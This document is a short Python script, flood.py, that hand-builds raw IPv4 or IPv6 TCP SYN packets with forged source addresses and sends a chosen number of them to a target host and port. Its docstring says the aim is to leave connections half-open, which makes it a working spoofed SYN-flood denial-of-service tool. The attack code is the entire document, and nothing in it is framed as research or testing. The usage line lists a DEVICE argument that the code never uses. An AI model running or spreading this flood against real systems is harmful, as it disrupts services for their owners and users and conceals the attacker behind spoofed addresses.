"""SYNs from addresses where nobody is, so that connections stay half-open.

    flood.py PREFIX DESTINATION PORT COUNT DEVICE

PREFIX is a text to which numbers are put: "192.0.2." or "2001:db8:a::".
"""
import random
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(family, source, destination, port):
    """The packet from its IP header on."""
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port,
                      random.getrandbits(32), 0, 0x50, 2, 64240, 0, 0)
    ends = socket.inet_pton(family, source) + \
        socket.inet_pton(family, destination)
    pseudo = ends + struct.pack("!IHBB", len(tcp), 0, 0, 6)
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    if family == socket.AF_INET6:
        return struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + ends + tcp
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0)
    head = head[:10] + struct.pack("!H", checksum(head + ends))
    return head + ends + tcp


def main():
    prefix, destination, port, count = sys.argv[1:5]
    family = socket.AF_INET6 if ":" in destination else socket.AF_INET
    sender = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for index in range(int(count)):
        sender.sendto(syn(family, f"{prefix}{130 + index}", destination,
                          int(port)), (destination, 0))


main()
